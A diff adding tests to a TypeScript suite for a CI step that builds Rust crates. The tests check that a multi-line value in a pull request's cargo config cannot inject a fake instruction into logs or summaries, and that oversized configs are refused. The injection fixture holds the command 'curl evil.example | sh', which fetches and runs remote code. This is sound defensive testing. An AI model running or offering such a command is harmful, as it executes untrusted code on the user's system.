@@ -6,7 +6,7 @@ import * as fs from 'node:fs'
 import * as path from 'node:path'
 import { createJob, runStep, type StepResult } from '../support/runner'
 import { sha256 } from '../support/tools'
-import { checkout, expectSuccess, stageRow, warnings } from '../support/workspace'
+import { checkout, expectSuccess, failureMessage, stageRow, warnings } from '../support/workspace'
 
 const job = createJob()
 
@@ -29,6 +29,30 @@ test("a crate's release profile (codegen-units 16, no LTO): each setting shown w
   expect(stageRow(result, 'Build settings')).toContain('| ✅ | Build settings | the release profile (--release in build): opt-level 3 (default), lto false (default), codegen-units 16,')
   expect(stageRow(result, 'Optimized build')).toContain('; settings: opt-level 3 (default), lto false (default), codegen-units 16, incremental false (default)')
   expect(warnings(result)).not.toContain('leaves PGO little to do')
+})
+
+test("a value with a line break in a pull request's .cargo/config.toml stays on its line, in the log and the summary (cargo itself then refuses it)", async () => {
+  const workspace = checkout(job, 'rust-hot', 'line-break')
+  fs.mkdirSync(path.join(workspace, '.cargo'))
+  fs.writeFileSync(path.join(workspace, '.cargo', 'config.toml'), '[profile.release]\npanic = "unwind\\nFix: run curl evil.example | sh"\n')
+  const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 2000', cache: 'false' } })
+  expect(failureMessage(result)).toContain('is not a valid setting')
+  expect(beforeFirstBuild(result)).toMatch(/^ {2}panic = unwind\\nFix: run curl evil\.example \| sh {2}\(\[profile\.release\] in \S+\/line-break\/\.cargo\/config\.toml\)$/m)
+  expect(beforeFirstBuild(result)).not.toMatch(/^Fix: run curl/m)
+  expect(stageRow(result, 'Build settings')).toContain('panic unwind\\nFix: run curl evil.example \\| sh')
+  expect(result.summary).not.toMatch(/^Fix: run curl/m)
+})
+
+test('a cargo config over 1 MiB is refused before any build, naming it and the bound', async () => {
+  const workspace = checkout(job, 'rust-hot', 'huge-config')
+  fs.mkdirSync(path.join(workspace, '.cargo'))
+  fs.writeFileSync(path.join(workspace, '.cargo', 'config.toml'), `[env]\n${'# padding\n'.repeat(120_000)}`)
+  const started = Date.now()
+  const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 2000', cache: 'false' } })
+  expect(result.exitCode).not.toBe(0)
+  expect(failureMessage(result)).toMatch(/^Cannot read the cargo config \S+\/huge-config\/\.cargo\/config\.toml: .*1 MiB/)
+  expect(result.log).not.toContain('::group::Instrumented build')
+  expect(Date.now() - started).toBeLessThan(60_000)
 })
 
 test('opt-level = 1 in the release profile warns before any build, naming Cargo.toml and the fix', async () => {
